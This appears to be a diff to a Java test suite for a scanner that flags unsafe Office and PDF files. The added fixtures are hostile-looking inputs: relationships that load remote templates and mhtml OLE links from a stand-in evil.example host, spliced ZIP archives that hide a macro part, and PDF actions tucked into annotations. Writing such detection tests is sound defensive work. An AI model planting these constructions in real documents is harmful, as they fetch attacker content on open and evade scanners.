@@ -49,14 +49,31 @@ class HiddenThingsTest {
   void partsThatOnlyTheDirectoryNamesAreFound() throws IOException {
     byte[] harmless = office("word/document.xml", ascii("<w/>"), 1);
     assertThat(readability(DocumentFormat.DOCX, harmless)).isEqualTo(Readability.READABLE);
-    byte[] whole = twoArchives();
-    assertThat(readability(DocumentFormat.DOCX, whole)).isEqualTo(Readability.UNSAFE);
+    byte[] program = twoArchives("word/document.xml", "word/vbaProject.bin", "x");
+    assertThat(readability(DocumentFormat.DOCX, program)).isEqualTo(Readability.UNSAFE);
+  }
+
+  /** What Office reads is judged, not what stands under the same name before it. */
+  @Test
+  void partsOfTheSameNameAreReadWhereTheDirectoryPoints() throws IOException {
+    String name = "word/_rels/settings.xml.rels";
+    assertThat(readability(DocumentFormat.DOCX, twoArchives(name, name, remote())))
+        .isEqualTo(Readability.UNSAFE);
+    assertThat(readability(DocumentFormat.DOCX, twoArchives(name, name, "<Relationships/>")))
+        .as("harmless, and yet two things at once")
+        .isNotEqualTo(Readability.READABLE);
+  }
+
+  private static String remote() {
+    return "<Relationships xmlns='r'><Relationship Id='a' Type='x/attachedTemplate'"
+        + " TargetMode='External' Target='http://evil.example/t.dotm'/></Relationships>";
   }
 
   /** One archive from the beginning, another one by the directory at the end. */
-  private static byte[] twoArchives() throws IOException {
-    byte[] first = office("word/document.xml", ascii("<w/>"), 1);
-    byte[] second = office("word/vbaProject.bin", ascii("x"), 1);
+  private static byte[] twoArchives(String name, String otherName, String otherContent)
+      throws IOException {
+    byte[] first = office(name, ascii("<w/>"), 1);
+    byte[] second = office(otherName, ascii(otherContent), 1);
     int directory = indexOf(first, new byte[] {'P', 'K', 1, 2});
     ByteArrayOutputStream out = new ByteArrayOutputStream();
     out.write(first, 0, directory);
@@ -78,6 +95,9 @@ class HiddenThingsTest {
     "attachedTemplate, 'file:///\\\\evil\\t.dotm', UNSAFE",
     "oleObject, file://evil/x, UNSAFE",
     "image, https://evil.example/pixel.png, UNSAFE",
+    "oleObject, mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html, UNSAFE",
+    "attachedTemplate, '&#10;http://evil.example/t.dotm', UNSAFE",
+    "attachedTemplate, 'C:\\Users\\sato\\Kaisha.dotx', READABLE",
     "attachedTemplate, 'file:///C:\\Users\\sato\\Kaisha.dotx', READABLE",
     "hyperlink, https://www.meti.go.jp/, READABLE",
     "image, media/image1.png, READABLE"
@@ -107,6 +127,12 @@ class HiddenThingsTest {
     COSName additional = COSName.getPDFName("AA");
     COSDictionary occasions = new COSDictionary();
     occasions.setItem(COSName.O, action);
+    COSDictionary shown = new COSDictionary();
+    shown.setItem(COSName.getPDFName("PV"), action);
+    COSDictionary note = new COSDictionary();
+    note.setItem(additional, shown);
+    COSArray annotation = new COSArray();
+    annotation.add(note);
     COSArray several = new COSArray();
     several.add(action("GoTo"));
     several.add(action);
@@ -116,7 +142,8 @@ class HiddenThingsTest {
         d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action),
         d -> d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, chain),
         d -> d.getDocumentCatalog().getCOSObject().setItem(additional, occasions),
-        d -> d.getPage(1).getCOSObject().setItem(additional, occasions));
+        d -> d.getPage(1).getCOSObject().setItem(additional, occasions),
+        d -> d.getPage(1).getCOSObject().setItem(COSName.ANNOTS, annotation));
   }
 
   private static COSDictionary action(String what) {
@@ -152,6 +179,8 @@ class HiddenThingsTest {
     "word/media/image1.png, x, false",
     "xl/worksheets/sheet1.xml, <c t=\"s\"><v>0</v></c>, false",
     "xl/worksheets/sheet1.xml, <c s=\"1\"/>, true",
+    "xl/worksheets/sheet1.xml, <x:c><x:v>3</x:v></x:c>, false",
+    "word/document2.xml, <w:t>規程</w:t>, false",
     "ppt/slides/slide1.xml, <a:r><a:t>案</a:t></a:r>, false",
     "ppt/slides/slide1.xml, <a:p/>, true"
   })
